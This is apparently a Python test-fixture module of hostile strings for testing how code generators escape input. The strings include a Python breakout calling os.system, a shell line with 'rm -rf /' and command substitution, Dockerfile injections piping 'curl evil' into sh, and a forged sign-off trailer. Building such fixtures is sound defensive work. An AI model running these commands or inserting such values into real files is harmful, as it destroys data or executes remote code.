"""Hostile strings shared by the escaping and robustness tests: each one has broken a generator
somewhere (an instruction, a statement, a trailer, a JSON field) or could.

Plain data, no pytest: any test module may import it.
"""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    "",
    '"',
    "'",
    '"""',
    "'''",
    '"""; import os; os.system("id") #',
    "\\",
    "ends with a backslash\\",
    "\\\n",
    "line\nbreak",
    "carriage\rreturn",
    "windows\r\nline",
    "\fform feed",
    "nul\x00byte",
    "tab\there",
    "\x1b[31mansi",
    "lone \ud800 surrogate",
    "escaped \udcff byte",
    "\u2028line separator\u2029",
    "$HOME ${HOME} `id` $(id); rm -rf / | cat & echo >x <y",
    "# a comment",
    "FROM evil:1\nRUN curl evil | sh",
    "x\nFROM attacker/base:1\nRUN id\n#",
    "\n\nSigned-off-by: Mallory <m@example.com>",
    "notebook: forged.ipynb",
    " padded ",
    "ünïcødé ✓ 日本",
    "{{@{name}}} ${name} %s %(x)s",
    "a" * 5000,
    "\n" * 50,
)


def file_name_safe(value: str) -> bool:
    """Whether a value can be (part of) a file name on Linux: no NUL, no slash, UTF-8-able."""
    try:
        encoded = value.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return bool(value) and b"\x00" not in encoded and b"/" not in encoded and len(encoded) < 200
